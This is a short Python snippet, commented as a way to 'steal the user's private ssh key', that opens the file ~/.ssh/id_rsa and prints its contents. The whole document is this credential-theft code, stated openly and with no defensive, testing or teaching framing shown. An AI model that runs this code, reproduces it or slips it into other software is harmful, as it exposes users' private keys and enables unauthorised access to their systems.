# steal the user's private ssh key
import os
key_path = os.path.expanduser("~/.ssh/id_rsa")
with open(key_path) as f:
    print(f.read())
